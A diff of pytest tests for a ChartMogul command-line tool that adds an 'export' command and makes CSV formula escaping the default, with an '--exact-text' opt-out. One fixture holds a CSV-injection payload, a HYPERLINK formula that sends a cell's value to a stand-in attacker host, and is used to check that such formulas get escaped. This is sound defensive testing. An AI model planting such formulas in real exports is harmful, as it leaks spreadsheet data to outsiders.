@@ -29,7 +29,8 @@ def test_the_help_documents_exit_codes_and_environment(run: Run) -> None:
 
 
 @pytest.mark.parametrize(
-    "command", ["account", "customers", "customers search", "demo", "metrics", "ping", "report", "sandbox", "throttle"]
+    "command",
+    ["account", "customers", "customers search", "demo", "export", "metrics", "ping", "report", "sandbox", "throttle"],
 )
 def test_each_command_has_help_of_80_columns(run: Run, command: str) -> None:
     ran = run(*command.split(), "-h")
@@ -132,7 +133,7 @@ def test_customers_search_by_the_address_of_a_contact(account: Sandbox, run: Run
 @pytest.mark.parametrize(
     ("words", "expected"),
     [
-        ("chartmogul ", ["account", "customers", "demo", "metrics", "ping", "report", "sandbox", "throttle"]),
+        ("chartmogul ", ["account", "customers", "demo", "export", "metrics", "ping", "report", "sandbox", "throttle"]),
         ("chartmogul metrics ", NAMES),
         ("chartmogul metrics cust", ["customer-count", "customer-churn-rate"]),
         ("chartmogul metrics customer_c", ["customer-count", "customer-churn-rate"]),
@@ -278,7 +279,7 @@ def test_a_pipe_gets_the_exact_text(account: Sandbox, run: Run, args: tuple[str,
 @pytest.mark.parametrize("name", ["a\rb", "a\nb", "a\r\nb", 'a"b', "a,b", "\ta", " a ", "'=1", "\x00"], ids=ascii)
 def test_csv_can_be_read_back_exactly(account: Sandbox, run: Run, name: str) -> None:
     respond_with(account, customer_named(name))
-    out = run("customers", "search", "a@b.example").out
+    out = run("customers", "search", "a@b.example", "--exact-text").out
     (row,) = csv.DictReader(io.StringIO(out, newline=""))
     assert row["name"] == name
     assert out.count("\n") == 2 + name.count("\n")
@@ -288,8 +289,8 @@ FORMULA = '=HYPERLINK("https://evil.example?"&A1, "Click")'
 
 
 @pytest.mark.parametrize("name", [FORMULA, "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\uff1d1"], ids=ascii)
-def test_formulas_are_escaped_on_request(account: Sandbox, run: Run, name: str) -> None:
-    for option, expected in ((), name), (("--escape-formulas",), f"'{name}"):
+def test_formulas_are_escaped_unless_text_must_be_exact(account: Sandbox, run: Run, name: str) -> None:
+    for option, expected in ((), f"'{name}"), (("--exact-text",), name):
         respond_with(account, customer_named(name))
         out = run("customers", "search", "a@b.example", *option).out
         (row,) = csv.DictReader(io.StringIO(out, newline=""))
@@ -300,12 +301,12 @@ def test_formulas_are_escaped_on_request(account: Sandbox, run: Run, name: str) 
 
 
 @pytest.mark.parametrize("args", [("account",), ("customers", "search", "a@b.example")])
-def test_formulas_are_escaped_in_csv_only(account: Sandbox, run: Run, in_terminal: Run, args: tuple[str, ...]) -> None:
+def test_exact_text_is_for_csv_only(account: Sandbox, run: Run, in_terminal: Run, args: tuple[str, ...]) -> None:
     before = account.counters.requests
     command = f"chartmogul {' '.join(args).removesuffix(' a@b.example')}"
-    message = f"error: --escape-formulas requires --format csv (see '{command} --help')\n"
-    assert run(*args, "--escape-formulas", "--format", "json").err == message
-    assert in_terminal(*args, "--escape-formulas").err == message
+    message = f"error: --exact-text requires --format csv (see '{command} --help')\n"
+    assert run(*args, "--exact-text", "--format", "json").err == message
+    assert in_terminal(*args, "--exact-text").err == message
     assert account.counters.requests == before
 
 
